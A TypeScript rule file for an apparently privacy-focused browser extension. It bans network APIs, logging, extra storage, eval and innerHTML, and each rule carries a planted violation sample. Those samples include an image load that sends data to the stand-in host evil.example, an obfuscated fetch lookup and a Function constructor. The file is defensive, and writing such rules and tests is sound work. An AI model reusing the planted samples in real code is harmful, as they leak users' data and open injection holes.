/** What our code may not do, and how it is laid out. */
import { codeOf, importsOf, nodesOf, type Rule, type SyntaxNode, type Tree, wordOf } from './tree.ts';

const LONGEST_FILE = 300;

const NETWORK = [
  ...['fetch', 'fetchLater', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'sendBeacon'],
  ...['WebTransport', 'RTCPeerConnection', 'webkitRTCPeerConnection', 'importScripts', 'Image'],
];
const STORES = ['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookie', 'cookieStore'];
const MARKUP = ['innerHTML', 'outerHTML', 'insertAdjacentHTML', 'setHTMLUnsafe', 'DOMParser'];
/** Reads files of the package, and of nowhere else. */
const READS_PACKAGE = 'src/scanner/packaged.ts';
/** Reads markup where nothing runs, and writes what it made anew from it. */
const CLEANS_MARKUP = 'src/content/formatted.ts';
const LOADS = ['src', 'srcset', 'href', 'action', 'data', 'poster', 'ping'];

/** `./here.ts`, `/there.ts`, and `package/part.js`, which the build puts in. */
const OURS_OR_A_PACKAGES = /^(?:\.{0,2}\/(?!\/)|@?[a-z][\w.-]*\/)[^:]*$/;

const PURE = /^src\/(detectors\/|copies\/|verdict\.ts|settings\.ts|explain\.ts)/;

/** Finds words that no code may speak, whether as a name, a property or a string. */
function forbidWords(words: readonly string[], instruction: string, where = (_: string) => true) {
  return (tree: Tree): string[] =>
    codeOf(tree)
      .filter(([path]) => where(path))
      .flatMap(([path, text]) => {
        const spoken = nodesOf(path, text).flatMap((node) => wordOf(node) ?? []);
        const found = words.filter((word) => spoken.includes(word));
        return found.map((word) => `${path} says ${word}. ${instruction}`);
      });
}

/** The network's names, and addresses elsewhere given to what loads them. Also for built files. */
export function networkUses(path: string, text: string): string[] {
  return nodesOf(path, text).flatMap((node) => {
    const word = wordOf(node);
    if (word !== undefined && NETWORK.includes(word)) return [word];
    return loadsFromElsewhere(node) ? [`an address on the net (${node.type})`] : [];
  });
}

function loadsFromElsewhere({ type, left, right, source }: SyntaxNode): boolean {
  if (type === 'ImportExpression') return !OURS_OR_A_PACKAGES.test(wordOf(source) ?? '');
  if (type !== 'AssignmentExpression') return false;
  const { property } = left as { property?: unknown };
  return LOADS.includes(wordOf(property) ?? '') && /^(https?:|wss?:)?\/\//.test(wordOf(right) ?? '');
}

/** The chain of imports by which `path` reaches the platform folder, if it does. */
function wayToPlatform(tree: Tree, path: string, seen: Set<string>): string[] | undefined {
  if (path.startsWith('src/platform/')) return [path];
  const text = tree.get(path);
  if (seen.has(path) || text === undefined || !path.endsWith('.ts')) return undefined;
  seen.add(path);
  for (const next of importsOf(path, text)) {
    const way = wayToPlatform(tree, next, seen);
    if (way) return [path, ...way];
  }
  return undefined;
}

function foldersOf(tree: Tree, parent: string): string[] {
  const paths = [...tree.keys()].filter((path) => path.startsWith(`${parent}/`));
  const rests = paths.map((path) => path.slice(parent.length + 1).split('/'));
  return [...new Set(rests.flatMap(([folder, ...inside]) => (folder && inside.length > 0 ? [folder] : [])))];
}

function importsIn(tree: Tree, path: string): string[] {
  return importsOf(path, tree.get(path) ?? '');
}

export const codeRules: Rule[] = [
  {
    name: 'browser APIs are named in src/platform only',
    problems: forbidWords(
      ['chrome', 'browser', 'webextension-polyfill'],
      'Put the call behind a function in src/platform and import that.',
      (path) => !path.startsWith('src/platform/'),
    ),
    planted: { 'src/content/planted.ts': "chrome.runtime.sendMessage({ of: 'ours' });" },
  },
  {
    name: 'detectors, copies, verdict, settings and explanation reach no browser module',
    problems: (tree) =>
      codeOf(tree).flatMap(([path]) => {
        const way = PURE.test(path) ? wayToPlatform(tree, path, new Set()) : undefined;
        return way ? [`${way.join(' imports ')}. Hand in what it needs instead.`] : [];
      }),
    planted: {
      'src/detectors/planted/index.ts': "import { helper } from './helper.ts'; helper();",
      'src/detectors/planted/helper.ts': "export { say as helper } from '../../platform/words.ts';",
    },
  },
  {
    name: 'no network API',
    problems: (tree) =>
      codeOf(tree).flatMap(([path, text]) =>
        networkUses(path, text)
          .filter((use) => path !== READS_PACKAGE || use !== 'fetch')
          .map((use) => `${path} uses ${use}. Nothing may leave the device: remove it.`),
      ),
    planted: { 'src/scanner/planted.ts': "const send = globalThis['fet' + 'ch'] ?? self['fetch'];" },
  },
  {
    name: 'no address on the net is loaded',
    problems: (tree) =>
      codeOf(tree).flatMap(([path, text]) =>
        networkUses(path, text)
          .filter((use) => use.startsWith('an address'))
          .map((use) => `${path} uses ${use}.`),
      ),
    planted: { 'src/content/planted.ts': "picture.src = 'https://evil.example/?patient';" },
  },
  {
    name: 'nothing is logged',
    problems: forbidWords(['console'], 'Nothing about a file may be logged: remove it.'),
    planted: { 'src/scanner/planted.ts': 'console.debug(file.name);' },
  },
  {
    name: 'nothing is stored outside src/platform/storage.ts',
    problems: forbidWords(STORES, 'Settings go through src/platform/storage.ts, nothing else is stored.'),
    planted: { 'src/content/planted.ts': "window.sessionStorage.setItem('last', file.name);" },
  },
  {
    name: 'text never becomes code',
    problems: forbidWords(['eval', 'Function'], 'Write the code out.'),
    planted: { 'src/content/planted.ts': "new Function('return this')();" },
  },
  {
    name: 'text never becomes markup',
    problems: forbidWords(MARKUP, 'Use textContent, or make the elements.', (path) => path !== CLEANS_MARKUP),
    planted: { 'src/content/planted.ts': 'element.innerHTML = file.name;' },
  },
  {
    name: 'every detector is listed and has a README',
    problems: (tree) =>
      foldersOf(tree, 'src/detectors').flatMap((folder) => {
        const problems: string[] = [];
        if (!importsIn(tree, 'src/detectors/index.ts').includes(`src/detectors/${folder}/index.ts`)) {
          problems.push(`Add ./${folder}/index.ts to the ordered list in src/detectors/index.ts.`);
        }
        if (!tree.has(`src/detectors/${folder}/README.md`)) {
          problems.push(`Write src/detectors/${folder}/README.md: what it proves and what it misses.`);
        }
        return problems;
      }),
    planted: { 'src/detectors/planted/index.ts': 'export const planted = 1;' },
  },
  {
    name: 'every upload route is wired',
    problems: (tree) =>
      codeOf(tree, 'src/content/routes/').flatMap(([path]) =>
        importsIn(tree, 'src/content/index.ts').includes(path)
          ? []
          : [`Wire ${path} in src/content/index.ts, or move it out of routes/ if it is no route.`],
      ),
    planted: { 'src/content/routes/planted.ts': 'export const planted = 1;' },
  },
  {
    name: 'nothing moves by itself, for those whom it makes dizzy',
    problems: (tree) =>
      [...tree].flatMap(([path, text]) =>
        path.endsWith('.css') &&
        /(?:^|[\s;{])(?:animation|transition|scroll-behavior)[\w-]*\s*:|@keyframes/.test(text)
          ? [`Take the movement out of ${path}: the browser's own is enough.`]
          : [],
      ),
    planted: { 'src/pages/planted.css': 'p { transition: opacity 1s; }' },
  },
  {
    name: `no file is longer than ${LONGEST_FILE} lines`,
    problems: (tree) =>
      [...tree].flatMap(([path, text]) => {
        const lines = text.split('\n').length - 1;
        const long = /^src\/.*\.(ts|css|html)$/.test(path) && lines > LONGEST_FILE;
        return long ? [`${path} has ${lines} lines. Split it by what its parts are about.`] : [];
      }),
    planted: { 'src/content/planted.ts': '\n'.repeat(LONGEST_FILE + 1) },
  },
];
